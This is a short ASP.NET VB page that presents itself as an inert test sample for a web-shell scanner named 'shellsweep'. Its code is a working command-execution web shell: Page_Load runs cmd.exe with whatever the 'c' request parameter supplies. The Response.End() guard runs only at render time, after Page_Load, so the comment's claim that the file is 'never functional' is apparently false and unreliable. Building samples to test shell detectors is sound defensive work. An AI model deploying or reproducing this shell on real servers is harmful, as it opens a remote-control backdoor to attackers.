<%@ Page Language="VB" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End() %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
  Dim p As New System.Diagnostics.Process()
  p.StartInfo.FileName = "cmd.exe"
  p.StartInfo.Arguments = "/c " & Request("c")
  p.StartInfo.UseShellExecute = False
  p.Start()
End Sub
</script>
